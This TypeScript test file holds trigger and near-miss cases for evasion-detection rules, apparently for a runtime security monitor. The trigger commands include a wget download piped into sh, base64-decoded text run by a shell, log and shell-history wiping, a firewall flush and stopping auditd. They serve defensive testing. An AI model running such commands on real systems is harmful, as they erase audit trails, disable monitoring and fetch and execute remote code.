import { type Case, host, inside } from '../stimulus.ts';

/** `rules/evasion.yaml`. */
export const evasion: readonly Case[] = [
  {
    rule: 'Program executed from memory',
    fire: host('act memfd /bin/true'),
    miss: host('act exec /bin/true'),
  },
  {
    rule: 'Program executed from shared memory',
    fire: host('cp /bin/true /dev/shm/$$-stimulus; /dev/shm/$$-stimulus; rm /dev/shm/$$-stimulus'),
    miss: host('cp /bin/true ./stimulus; ./stimulus'),
  },
  {
    rule: 'Log removed or emptied',
    fire: host('act open wct /var/log/syslog'),
    miss: host('act open wca /var/log/syslog; as logrotate open wct /var/log/syslog; act open wct log + unlink log'),
  },
  {
    rule: 'Shell history removed',
    fire: host('act open wc /root/.zsh_history + unlink /root/.zsh_history'),
    miss: host('act open wca /root/.zsh_history; act open wct zsh_history + unlink zsh_history'),
  },
  {
    rule: 'Process attached with ptrace',
    fire: host('act ptrace seize'),
    miss: host('as gdb ptrace attach; act ptrace peek + ptrace traceme'),
  },
  {
    rule: 'Kernel module loaded by hand',
    fire: inside('as insmod sleep 0 module.ko'),
    miss: host('as insmod sleep 0 module.ko'),
  },
  {
    rule: 'Decoded text piped into a shell',
    fire: host('sh -c "false && echo aWQ= | base64 -d | sh || true"'),
    miss: host('sh -c "false && echo aWQ= | base64 | cat || true"'),
  },
  {
    rule: 'Download piped into a shell',
    fire: inside('/bin/sh -c "false && wget -qO- http://203.0.113.7/ | sh || true"'),
    miss: inside('/bin/sh -c "false && wget -qO- http://203.0.113.7/ | cat || true"'),
  },
  {
    rule: 'BPF program loaded',
    fire: host('act bpf load'),
    miss: host('act bpf map; as bpftool bpf load'),
  },
  {
    rule: 'Firewall emptied',
    fire: host('as iptables sleep 0 -F'),
    miss: host('as iptables sleep 0 -L; as dockerd run sh -c "$programs/iptables sleep 0 -L"'),
  },
  {
    rule: 'Watching service stopped',
    fire: host('as systemctl sleep 0 stop auditd'),
    miss: host('as systemctl sleep 0 status auditd; as systemctl sleep 0 stop nginx'),
  },
];

export const unloadable = {
  'Kernel module loaded': 'this kernel takes no modules (CONFIG_MODULES is not set), and only a successful load counts',
} as const;
